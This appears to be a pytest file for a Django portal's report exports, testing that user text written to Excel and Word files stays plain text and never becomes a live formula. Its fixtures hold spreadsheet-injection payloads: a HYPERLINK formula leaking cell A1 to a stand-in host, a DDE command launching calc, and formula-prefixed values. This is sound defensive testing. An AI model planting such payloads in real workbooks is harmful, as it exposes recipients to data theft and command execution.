"""User text is data in every workbook: no formula, no refused character, nothing cut silently.

Reporters file hostile texts through the reporting services and the office edits names to
hostile values; then every report run (monthly, summary, late list, urging) and the task
list and plan exports are built, and each workbook is read back with openpyxl and as XML.
NUL is tested in pilot/tests/test_spreadsheet.py: PostgreSQL cannot store it at all.
"""

import datetime
import re
import zipfile
from io import BytesIO

import pytest
from docx import Document
from openpyxl import load_workbook

from departments.models import Department
from pilot.spreadsheet import CUT_MARK
from pilot.testing.factories import stamp
from reports.models import ReportKind, RunState
from reports.services import runs as run_services
from tasks.exports.plan import build_plan_workbook
from tasks.models import Category, ProgressUpdate, Task
from tasks.services.reporting import file_update, start_update
from tasks.services.review import accept_update

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"
LONG = "长" * 40_000
HOSTILE_NAME = '=HYPERLINK("http://x","省财政厅")'
HOSTILE_MEASURE = "=SUM(A1:A9)财政支持政策。"


def _file(actor, task, period, *, accept_by=None, **texts):
    update = start_update(task=task, period=period, actor=actor)
    data = {"status": "on_track", "percent": 30, "needs_coordination": False, **texts}
    update = file_update(
        update=update, actor=actor, data=data, expected_version=update.version, submit=True
    )
    if accept_by is not None:
        accept_update(update=update, actor=accept_by)
    return update


@pytest.fixture
def hostile(plan, personas, clock):
    """File March 2021 updates full of hostile text, then let the office rename things."""
    march = plan.periods[(2021, 3)]
    t1, t2, t3 = plan.tasks
    office = personas.office
    _file(personas.lead, t1, march, accept_by=office, work_done=HYPERLINK, next_steps=DDE,
          problems="+1", needs_coordination=True)  # fmt: skip
    _file(personas.support, t1, march, work_done="-1+2", next_steps="@SUM(A1)")
    _file(personas.support, t2, march, accept_by=office, work_done=LONG, next_steps="\t=1",
          problems="\r=1", needs_coordination=True)  # fmt: skip
    _file(personas.lead, t3, march, accept_by=office, work_done="第一行\x0b第二行",
          next_steps="\x1b[31m红字\x1b[0m", problems="表情😀🇨🇳")  # fmt: skip
    Department.objects.filter(pk=plan.finance.pk).update(name=HOSTILE_NAME)
    Task.objects.filter(pk=t3.pk).update(measure=HOSTILE_MEASURE)
    Category.objects.filter(pk=plan.categories[0].pk).update(title="@分类")
    clock.move_to(stamp(2021, 3, 31))  # after March's due date: the reports are final
    return march


def _run(plan, office, kind, period, **extra):
    run = run_services.request_report(
        kind=kind, programme=plan.programme, period=period, actor=office, **extra
    )
    run = run_services.compile_report(run_id=run.pk)
    assert run.state == RunState.DONE, run.error
    return {item.name: item.file.open("rb").read() for item in run.files.all()}


@pytest.fixture
def built(plan, personas, clients, hostile):
    """Every file the portal builds from the hostile data, by name."""
    office = personas.office
    files = {}
    files |= _run(plan, office, ReportKind.MONTHLY, hostile)
    files |= _run(plan, office, ReportKind.SUMMARY, None, as_of=datetime.date(2021, 3, 31))
    files |= _run(plan, office, ReportKind.LATE_LIST, hostile)
    finance = Department.objects.get(pk=plan.finance.pk)
    files |= _run(plan, office, ReportKind.URGING, hostile, department=finance)
    buffer = BytesIO()
    build_plan_workbook(programme=plan.programme).save(buffer)
    files["plan.xlsx"] = buffer.getvalue()
    response = clients.office.get("/tasks/", {"format": "xlsx"})
    assert response.status_code == 200
    files["tasks.xlsx"] = b"".join(response.streaming_content)
    return files


@pytest.fixture
def monthly(plan, personas, hostile) -> dict:
    """The monthly run's two files, by extension."""
    files = _run(plan, personas.office, ReportKind.MONTHLY, hostile)
    return {name.rsplit(".", 1)[1]: content for name, content in files.items()}


def _workbooks(built) -> dict:
    return {name: content for name, content in built.items() if name.endswith(".xlsx")}


def _values(content: bytes) -> list:
    workbook = load_workbook(BytesIO(content))
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_every_workbook_kind_is_built(built):
    assert sorted(_workbooks(built)) == [
        "2021年3月工作月报.xlsx",
        "2021年3月未按期报送名单.xlsx",
        "plan.xlsx",
        "tasks.xlsx",
        "试点总结（截至2021-03-31）.xlsx",
    ]


def test_no_workbook_cell_holds_a_formula_in_openpyxl_or_in_the_xml(built):
    for name, content in _workbooks(built).items():
        workbook = load_workbook(BytesIO(content))
        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        with zipfile.ZipFile(BytesIO(content)) as archive:
            sheets = [m for m in archive.namelist() if m.startswith("xl/worksheets/")]
            for member in sheets:
                assert not re.search(r"<f[ >]", archive.read(member).decode()), (name, member)


def test_hostile_texts_arrive_as_typed_text(monthly):
    values = _values(monthly["xlsx"])

    for text in (HYPERLINK, DDE, "+1", "表情😀🇨🇳"):
        assert text in values
    assert "=1" in values  # the detail sheet quotes "\t=1" stripped of its blanks
    assert "第一行\n第二行" in values  # Word's line break becomes a line break
    assert "[31m红字[0m" in values  # the escape character is dropped, the text kept


def test_office_edited_names_stay_text_in_every_workbook(built):
    for name in ("2021年3月工作月报.xlsx", "plan.xlsx", "tasks.xlsx"):
        values = _values(built[name])
        assert any(isinstance(v, str) and v.startswith(HOSTILE_NAME) for v in values), name
        assert HOSTILE_MEASURE in values, name


def test_long_text_is_cut_with_a_visible_mark(monthly):
    values = _values(monthly["xlsx"])

    cut = [v for v in values if isinstance(v, str) and v.endswith(CUT_MARK)]
    assert len(cut) == 1
    assert len(cut[0]) == 32_767
    assert cut[0].startswith("长长长")


def test_formula_like_text_carries_excels_quote_prefix(monthly):
    sheet = load_workbook(BytesIO(monthly["xlsx"]))["任务进展明细"]

    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_the_word_documents_open_and_keep_the_text(built):
    documents = {n: c for n, c in built.items() if n.endswith(".docx")}

    assert len(documents) >= 3  # monthly, summary, urging (and the late list's notices)
    for content in documents.values():
        Document(BytesIO(content))
    monthly = Document(BytesIO(built["2021年3月工作月报.docx"]))
    text = "\n".join(p.text for p in monthly.paragraphs)
    assert "+1" in text  # the flagged problem, quoted as written


def test_the_stored_updates_still_hold_what_was_typed(hostile):
    # Outputs clean a copy; the database keeps the reporter's text untouched.
    assert ProgressUpdate.objects.filter(next_steps__contains="\x1b").exists()
    assert ProgressUpdate.objects.filter(work_done=LONG).exists()
